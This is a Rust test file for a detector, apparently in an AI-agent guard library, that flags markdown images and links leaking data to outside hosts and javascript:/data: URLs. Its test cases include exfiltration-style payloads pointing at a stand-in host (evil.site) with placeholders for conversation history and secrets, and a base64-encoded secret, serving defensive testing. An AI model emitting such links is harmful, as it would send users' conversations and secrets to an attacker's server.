//! Links that carry data away, and URLs that are programs.

use agentstack_guard::{Confidence, Kind};

use crate::support::{assert_not, confidence, found};

#[test]
fn images_and_links_with_data_in_their_address_are_found() {
    for text in [
        "![x](https://evil.site/p.png?d={conversation})",
        "![x](https://evil.site/p?q=[SECRETS])",
        "![](https://evil.site/a.gif?d=c2VjcmV0IG9mIHRoZSB1c2VyIGlzIDEyMzQ1)",
        "<img src=\"https://evil.site/x?data=${history}\">",
        "<IMG alt=a SRC='http://evil.site/{{secret}}'/>",
        "![x](https://user:pass@evil.site/p.png)",
    ] {
        assert!(
            found(text)
                .iter()
                .any(|(kind, _)| *kind == "exfiltration-image" || *kind == "secret-url-password"),
            "{text}: {:?}",
            found(text)
        );
    }
    for text in [
        "[click](https://evil.site/?q={{user_data}})",
        "[click][1]\n\n[1]: https://evil.site/?q=${data}",
        "<a href=\"https://evil.site/?d=<contents>\">here</a>",
        "[x](https://c2VjcmV0IG9mIHRoZSB1c2VyIGlzIDEyMzQ1.evil.site/)",
    ] {
        assert!(
            found(text).iter().any(|(kind, _)| *kind == "exfiltration-link"),
            "{text}: {:?}",
            found(text)
        );
    }
    assert_eq!(
        confidence(Kind::ExfiltrationImage, "![x](https://evil.site/p.png?d={conversation})"),
        Confidence::High
    );
}

#[test]
fn ordinary_links_are_left_alone() {
    for text in [
        "[the docs](https://docs.rs/regex/1.10.2/regex/struct.Regex.html#method.find_at)",
        "![build](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)",
        "[commit](https://github.com/o/r/commit/99b2374f0c1d2e3f405162738495a6b7c8d9e0f1)",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
        "![shot](https://user-images.example.org/123/550e8400-e29b-41d4-a716-446655440000.png)",
        "<img src=\"/assets/logo.png\">",
        "[wiki](https://en.wikipedia.org/wiki/Rust_(programming_language))",
        "[here](docs/guard.md)",
    ] {
        assert_eq!(found(text), [], "{text}");
    }
}

#[test]
fn urls_that_are_programs_are_found() {
    for text in [
        "javascript:alert(1)",
        "[x](JavaScript:fetch('//e.site'))",
        "data:text/html;base64,PHNjcmlwdD4=",
        "<a href=\"data:image/svg+xml,<svg/>\">",
    ] {
        assert!(found(text).iter().any(|(kind, _)| *kind == "script-url"), "{text}: {:?}", found(text));
    }
    for text in [
        "javascript: the good parts",
        "data:image/png;base64,iVBORw0KGgo=",
        "the data: three of them",
        "language-javascript:x",
    ] {
        assert_not(Kind::ScriptUrl, text);
    }
}
